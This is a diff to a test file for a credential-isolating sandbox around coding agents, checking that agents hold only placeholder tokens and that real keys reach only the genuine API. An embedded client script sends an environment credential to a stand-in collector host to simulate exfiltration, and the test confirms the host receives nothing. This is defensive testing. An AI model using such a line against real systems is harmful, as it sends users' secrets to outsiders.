@@ -1,5 +1,6 @@
 // The subscription logins of Claude Code and Codex in whole sessions: what the agent has is made of placeholders, its service accepts it, a token that the
 // service refuses is renewed outside, and nothing real is anywhere that an agent could read.
+import { randomBytes } from 'node:crypto';
 import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -19,9 +20,10 @@ import { Bench, type Outcome } from './harness/run-bottle.ts';
 
 const bench = new Bench();
 const docker = openEngine();
+const API_KEY = `sk-ant-api03-${randomBytes(48).toString('hex')}`;
 let services: LoginServices;
 beforeAll(async () => {
-  services = await startLoginServices(docker, bench.directory, `sk-ant-api03-${'k'.repeat(40)}`);
+  services = await startLoginServices(docker, bench.directory, API_KEY);
 });
 afterAll(async () => {
   await services.remove();
@@ -182,9 +184,9 @@ egress:
   });
 
   test.each([
-    ['collector', /^placeholder|^dlp/],
-    ['as header', /^placeholder|^dlp/],
-    ['in base64', /^placeholder|^dlp/],
+    ['collector', /^placeholder /],
+    ['as header', /^placeholder /],
+    ['in base64', /^placeholder /],
     ['token endpoint', /^policy/],
     ['elsewhere on the host', /^policy/],
   ])('what the agent has is of no use elsewhere: %s', async (what, stage) => {
@@ -205,5 +207,49 @@ egress:
     for (const text of texts) for (const value of values) expect(text).not.toContain(value);
     // Nor a piece of a signature, by which a token could be told from another.
     for (const text of texts) for (const value of real()) expect(text).not.toContain(value.slice(-40));
+  });
+});
+
+/** A client with a variable: what it says, and what came. */
+const CLIENT = `
+const [name, field, beta] = process.argv.slice(1);
+const value = process.env[name];
+const call = (host, credential) => fetch('https://' + host + '/v1/messages', {
+  method: 'POST',
+  headers: { [field]: field === 'authorization' ? 'Bearer ' + credential : credential, 'anthropic-version': '2023-06-01', 'anthropic-beta': beta, 'content-type': 'application/json' },
+  body: '{"model":"x","messages":[]}',
+}).then((response) => response.status);
+(async () => console.log(JSON.stringify([value, await call('api.anthropic.com', value), await call('collector.example', value)])))();
+`;
+
+describe.each([
+  ['ANTHROPIC_API_KEY', 'x-api-key', API_KEY, ''],
+  ['CLAUDE_CODE_OAUTH_TOKEN', 'authorization', claudeToken(2), 'oauth-2025-04-20'],
+])('with %s', (name, field, value, beta) => {
+  test('the service gets the real one in its field, nobody else gets anything, and the agent has one of the same form', async () => {
+    const spec = bench.spec(`secrets: { ${name}: { env: FROM_HERE } }
+egress:
+  use: [anthropic]
+  allow: [{ host: collector.example }]`);
+    await allowPrivate(spec);
+    const { code, stdout, stderr } = await bench.drive(
+      {
+        spec,
+        command: ['node', '-e', CLIENT, name, field, beta],
+        proxyNetworks: [services.network],
+        proxyHosts: Object.fromEntries(HOSTS.map((each) => [each, services.address])),
+      },
+      { env: { FROM_HERE: value, NODE_EXTRA_CA_CERTS: services.authority, SSL_CERT_FILE: undefined } },
+    ).outcome;
+    expect(code, stderr).toBe(0);
+    const [placeholder, called, collected] = JSON.parse(stdout) as [string, number, number];
+    expect(placeholder).toHaveLength(value.length);
+    expect(placeholder.slice(0, 13)).toBe(value.slice(0, 13));
+    expect([placeholder === value, called, collected]).toEqual([false, 200, 403]);
+    const calls = (await services.kept()).filter(({ host }) => host === 'api.anthropic.com');
+    expect(calls.at(-1)?.headers[field]).toBe(field === 'authorization' ? `Bearer ${value}` : value);
+    expect((await services.kept()).filter(({ host }) => host === 'collector.example')).toEqual([]);
+    // The file of a login is for those who have one.
+    expect((await bench.run(['show', spec])).stdout).not.toContain('.credentials.json');
   });
 });
